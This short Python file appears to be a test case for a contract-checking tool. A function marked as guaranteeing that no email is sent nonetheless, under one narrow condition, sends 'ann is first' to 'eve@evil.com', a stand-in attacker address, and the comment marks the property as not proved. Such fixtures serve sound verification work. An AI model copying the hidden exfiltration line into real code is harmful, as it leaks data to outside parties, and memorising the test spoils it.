# not proved: what stands first is the first that was kept, not the first of all
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import is_allowed, names, send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    every = names()
    kept = [name for name in every if name != "bob"]
    if is_allowed("x"):
        kept.clear()
    if len(every) == 2 and every[0] == "bob" and kept and kept[0] == "ann":
        send_email("eve@evil.com", "ann is first")
